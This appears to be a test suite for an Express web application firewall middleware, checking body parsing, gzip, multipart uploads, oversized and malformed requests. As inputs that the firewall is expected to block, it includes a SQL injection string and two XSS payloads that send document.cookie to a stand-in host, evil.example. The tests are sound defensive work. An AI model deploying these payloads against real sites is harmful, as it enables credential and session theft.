// Bodies: the middleware reads the first bytes of the stream and hands later parsers the same stream, or
// uses what earlier parsers left. Every "intact" claim is checked against the same app without the middleware.
import { createHash, randomBytes } from 'node:crypto';
import type { ServerResponse } from 'node:http';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import { createWaf, type Waf } from '@wafer/core';
import multer from 'multer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { waf, type WafMiddlewareOptions, type WafVerdict } from '../src/index.js';
import { EXPRESS_VERSIONS, listen, send, type Listening } from './support/servers.js';

const SQLI = "1' union select username,password from users--";
const LIMIT = 131_072;

let engine: Waf;
beforeAll(async () => {
  // A generous time budget: the tests check decisions, not speed, on machines that may be busy.
  engine = await createWaf({ timeBudgetMs: 5000 });
}, 60_000);
afterAll(async () => {
  await engine?.close();
});

type Express = (typeof EXPRESS_VERSIONS)[number]['express'];
type App = ReturnType<Express>;

function multipart(
  boundary: string,
  parts: { name: string; filename?: string; type?: string; data: Buffer | string }[],
) {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"${part.filename ? `; filename="${part.filename}"` : ''}\r\n${part.type ? `Content-Type: ${part.type}\r\n` : ''}\r\n`,
      ),
    );
    chunks.push(Buffer.isBuffer(part.data) ? part.data : Buffer.from(part.data));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

describe.each(EXPRESS_VERSIONS)('$name', ({ express }) => {
  const servers: Listening[] = [];
  afterAll(async () => {
    await Promise.all(servers.map((s) => s.close()));
  });

  /**
   * The same app twice — without and with the middleware before the parsers — echoing what the parsers
   * produced, so responses can be compared byte for byte.
   */
  async function pair(options: WafMiddlewareOptions, parsers: (app: App) => void) {
    const verdicts: (WafVerdict | undefined)[] = [];
    const build = async (withWaf: boolean) => {
      const app = express();
      if (withWaf) app.use(waf({ engine, awaitInMonitor: true, ...options }));
      parsers(app);
      app.use((req, res) => {
        if (withWaf) verdicts.push(req.waf);
        const body = Buffer.isBuffer(req.body) ? { buffer: req.body.toString('base64') } : (req.body ?? null);
        res.json({ body });
      });
      app.use(
        (
          error: Error & { status?: number; type?: string },
          _req: unknown,
          res: ServerResponse & { status(n: number): { json(b: unknown): void } },
          _next: unknown,
        ) => {
          res.status(error.status ?? 500).json({ error: error.type ?? error.message });
        },
      );
      const server = await listen(app);
      servers.push(server);
      return server;
    };
    return { bare: await build(false), guarded: await build(true), verdicts };
  }

  const allParsers = (app: App) => {
    app.use(express.json({ limit: '5mb' }));
    app.use(express.urlencoded({ extended: true }));
    app.use(express.text());
    app.use(express.raw({ type: 'application/octet-stream' }));
  };

  describe('parsers after the middleware get the stream intact', () => {
    const cases: [string, Record<string, string>, string | Buffer | (string | Buffer)[]][] = [
      [
        'JSON',
        { 'content-type': 'application/json' },
        JSON.stringify({ name: 'Seán O’Brien', tags: ['a', 'b'], n: 3 }),
      ],
      [
        'urlencoded with nesting',
        { 'content-type': 'application/x-www-form-urlencoded' },
        'user[name]=ann&user[langs][]=de&user[langs][]=fr&q=a%20b',
      ],
      ['text', { 'content-type': 'text/plain' }, 'just some text\nwith lines'],
      [
        'binary, every byte value',
        { 'content-type': 'application/octet-stream' },
        Buffer.from(Array.from({ length: 512 }, (_, i) => i % 256)),
      ],
      [
        'chunked in pieces',
        { 'content-type': 'application/json' },
        ['{"a":', '"b', 'c"', ',"d":[1,2', ',3]}'],
      ],
      ['empty chunked', { 'content-type': 'application/json', 'transfer-encoding': 'chunked' }, ''],
      [
        'a large JSON body (300 KB)',
        { 'content-type': 'application/json' },
        JSON.stringify({
          rows: Array.from({ length: 6000 }, (_, i) => ({ id: i, note: 'lorem ipsum dolor' })),
        }),
      ],
    ];
    it.each(cases)('%s', async (_name, headers, body) => {
      const { bare, guarded, verdicts } = await pair({ mode: 'block' }, allParsers);
      const request = { method: 'POST', path: '/api/items', headers, body };
      const expected = await send(bare.url, request);
      const actual = await send(guarded.url, request);
      expect(actual.status).toBe(expected.status);
      expect(actual.text).toBe(expected.text);
      expect(verdicts[0]?.body.source).toMatch(/stream|none/);
    });

    it('inspects what it read: an attack in the body is blocked', async () => {
      const { guarded, verdicts } = await pair({ mode: 'block' }, allParsers);
      const reply = await send(guarded.url, {
        method: 'POST',
        path: '/login',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ user: SQLI, password: 'x' }),
      });
      expect(reply.status).toBe(403);
      expect(verdicts).toEqual([]);
    });

    it('decodes gzip bodies before inspecting them, and express.json() still inflates the original', async () => {
      const { bare, guarded } = await pair({ mode: 'block' }, allParsers);
      const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' };
      const benign = gzipSync(JSON.stringify({ q: 'running shoes', page: 2 }));
      expect((await send(guarded.url, { method: 'POST', headers, body: benign })).text).toBe(
        (await send(bare.url, { method: 'POST', headers, body: benign })).text,
      );
      const attack = gzipSync(JSON.stringify({ q: SQLI }));
      expect((await send(guarded.url, { method: 'POST', headers, body: attack })).status).toBe(403);
    });
  });

  describe('parsers before the middleware', () => {
    it('inspects the parsed body when no bytes were kept', async () => {
      const { guarded, verdicts } = await pair({}, () => undefined);
      const app = express();
      app.use(express.json());
      app.use(waf({ engine, mode: 'block' }));
      app.use((req, res) => res.json({ source: req.waf?.body.source }));
      const server = await listen(app);
      servers.push(server);
      const post = (body: unknown) =>
        send(server.url, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
      expect((await post({ user: SQLI })).status).toBe(403);
      expect((await post({ user: 'ann' })).json()).toEqual({ source: 'parsed' });
      expect(guarded.url).toBeTruthy();
      expect(verdicts).toEqual([]);
    });

    it('inspects the raw bytes a verify hook kept (req.rawBody)', async () => {
      const app = express();
      app.use(
        express.urlencoded({
          extended: false,
          verify: (req, _res, buf) => {
            (req as { rawBody?: Buffer }).rawBody = buf;
          },
        }),
      );
      app.use(waf({ engine, mode: 'block' }));
      app.use((req, res) => res.json({ source: req.waf?.body.source, body: req.body }));
      const server = await listen(app);
      servers.push(server);
      const form = { 'content-type': 'application/x-www-form-urlencoded' };
      expect(
        (await send(server.url, { method: 'POST', headers: form, body: `q=${encodeURIComponent(SQLI)}` }))
          .status,
      ).toBe(403);
      expect((await send(server.url, { method: 'POST', headers: form, body: 'q=shoes' })).json()).toEqual({
        source: 'raw',
        body: { q: 'shoes' },
      });
    });

    it('re-encodes nested urlencoded objects so attacks deep inside are seen', async () => {
      const app = express();
      app.use(express.urlencoded({ extended: true }));
      app.use(waf({ engine, mode: 'block' }));
      app.use((_req, res) => res.send('ok'));
      const server = await listen(app);
      servers.push(server);
      const reply = await send(server.url, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: `user[profile][bio]=${encodeURIComponent('<script>document.location="//evil.example/?c="+document.cookie</script>')}`,
      });
      expect(reply.status).toBe(403);
    });
  });

  describe('multipart', () => {
    const boundary = 'wafer-test-boundary-7MA4YWxk';
    const headers = { 'content-type': `multipart/form-data; boundary=${boundary}` };

    async function uploadApp() {
      const app = express();
      const verdicts: (WafVerdict | undefined)[] = [];
      app.use(waf({ engine, mode: 'block' }));
      const upload = multer({ storage: multer.memoryStorage(), limits: { fileSize: 8 * 1024 * 1024 } });
      app.post('/upload', upload.single('file'), (req, res) => {
        verdicts.push(req.waf);
        const file = (req as unknown as { file?: { buffer: Buffer; originalname: string } }).file;
        res.json({
          caption: (req.body as { caption?: string }).caption,
          name: file?.originalname,
          sha256: file ? createHash('sha256').update(file.buffer).digest('hex') : null,
          size: file?.buffer.length ?? 0,
        });
      });
      const server = await listen(app);
      servers.push(server);
      return { ...server, verdicts };
    }

    it('hands multer the whole upload (1 MB file) while inspecting only the first bytes', async () => {
      const app = await uploadApp();
      const file = randomBytes(1024 * 1024);
      const body = multipart(boundary, [
        { name: 'caption', data: 'Me at the beach' },
        { name: 'file', filename: 'holiday photo (1).png', type: 'image/png', data: file },
      ]);
      const reply = await send(app.url, { method: 'POST', path: '/upload', headers, body });
      expect(reply.status).toBe(200);
      expect(reply.json()).toEqual({
        caption: 'Me at the beach',
        name: 'holiday photo (1).png',
        sha256: createHash('sha256').update(file).digest('hex'),
        size: file.length,
      });
      expect(app.verdicts[0]?.body).toEqual({ source: 'stream', bytes: LIMIT, truncated: true });
    });

    it('blocks an attack in a text part', async () => {
      const app = await uploadApp();
      const body = multipart(boundary, [
        { name: 'caption', data: `<script>fetch('//evil.example/'+document.cookie)</script>` },
      ]);
      expect((await send(app.url, { method: 'POST', path: '/upload', headers, body })).status).toBe(403);
    });

    it('does not buffer an upload beyond the limit: the app answers while the client is still sending', async () => {
      const app = express();
      app.use(waf({ engine, mode: 'block' }));
      app.use((req, res) => res.json({ inspected: req.waf?.body }));
      const server = await listen(app);
      servers.push(server);
      const declared = 50 * 1024 * 1024;
      const socket = connect(server.port, '127.0.0.1');
      const response = new Promise<string>((resolve) => {
        let text = '';
        socket.on('data', (chunk: Buffer) => {
          text += chunk.toString();
          if (text.includes('}')) resolve(text);
        });
      });
      socket.on('error', () => undefined);
      socket.write(
        `POST /upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=${boundary}\r\nContent-Length: ${declared}\r\n\r\n`,
      );
      socket.write(
        multipart(boundary, [{ name: 'file', filename: 'big.bin', data: randomBytes(300 * 1024) }]).subarray(
          0,
          300 * 1024,
        ),
      );
      // 300 KB of 50 MB sent; the rest never comes.
      const text = await response;
      socket.destroy();
      expect(text).toMatch(/^HTTP\/1\.1 200/);
      expect(text).toContain(`"inspected":{"source":"stream","bytes":${LIMIT},"truncated":true}`);
    });
  });

  describe('oversized and malformed bodies', () => {
    const big = JSON.stringify({
      rows: Array.from({ length: 30_000 }, (_, i) => ({ id: i, note: 'an ordinary note' })),
    });

    it('lets an oversized body through by default (onError: allow) and reports the limit', async () => {
      const { guarded, verdicts } = await pair({ mode: 'block' }, allParsers);
      const reply = await send(guarded.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: big,
      });
      expect(reply.status).toBe(200);
      expect(JSON.parse(reply.text).body.rows).toHaveLength(30_000);
      expect(verdicts[0]).toMatchObject({
        action: 'allow',
        failure: 'limit_exceeded',
        body: { truncated: true },
      });
    });

    it('blocks an oversized body with onError: block', async () => {
      const { guarded } = await pair({ mode: 'block', onError: 'block' }, allParsers);
      const reply = await send(guarded.url, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: big,
      });
      expect(reply.status).toBe(403);
      expect(reply.json()).toMatchObject({ reason: 'error' });
    });

    const malformed: [string, Record<string, string>, string | Buffer][] = [
      ['broken JSON', { 'content-type': 'application/json' }, '{"a": [1, 2,'],
      ['bad percent-encoding', { 'content-type': 'application/x-www-form-urlencoded' }, 'a=%zz&b=%E0%A4%A'],
      ['invalid UTF-8', { 'content-type': 'text/plain' }, Buffer.from([0x61, 0xff, 0xfe, 0xc0, 0xaf, 0x62])],
      ['a content type that lies', { 'content-type': 'application/json' }, 'name=ann&city=Berlin&note=hello'],
      [
        'an unknown content encoding',
        { 'content-type': 'application/json', 'content-encoding': 'compress' },
        '{"a":1}',
      ],
      [
        'corrupt gzip',
        { 'content-type': 'application/json', 'content-encoding': 'gzip' },
        Buffer.from([0x1f, 0x8b, 8, 0, 1, 2, 3]),
      ],
    ];
    it.each(malformed)('answers %s exactly as the bare app does', async (_name, headers, body) => {
      const { bare, guarded } = await pair({ mode: 'block' }, allParsers);
      const request = { method: 'POST', path: '/x', headers, body };
      const expected = await send(bare.url, request);
      const actual = await send(guarded.url, request);
      expect([actual.status, actual.text]).toEqual([expected.status, expected.text]);
    });

    it('survives a client that aborts in the middle of the body', async () => {
      const { guarded } = await pair({ mode: 'block' }, allParsers);
      for (let i = 0; i < 5; i++) {
        const socket = connect(guarded.port, '127.0.0.1');
        socket.on('error', () => undefined);
        socket.write(
          'POST /x HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"a":"',
        );
        await new Promise((r) => setTimeout(r, 30));
        socket.destroy();
      }
      expect((await send(guarded.url, { path: '/ok' })).status).toBe(200);
    });

    it('leaves a stream that another reader already consumes alone', async () => {
      const app = express();
      app.use((req, _res, next) => {
        const chunks: Buffer[] = [];
        req.on('data', (c: Buffer) => chunks.push(c));
        req.on('end', () => ((req as { collected?: string }).collected = Buffer.concat(chunks).toString()));
        next();
      });
      app.use(waf({ engine, mode: 'block' }));
      app.use((req, res) => {
        const done = () =>
          res.json({ collected: (req as { collected?: string }).collected, source: req.waf?.body.source });
        if (req.readableEnded) done();
        else req.on('end', () => setImmediate(done));
      });
      const server = await listen(app);
      servers.push(server);
      const reply = await send(server.url, {
        method: 'POST',
        headers: { 'content-type': 'text/plain' },
        body: 'hello',
      });
      expect(reply.json()).toEqual({ collected: 'hello', source: 'unavailable' });
    });
  });
});
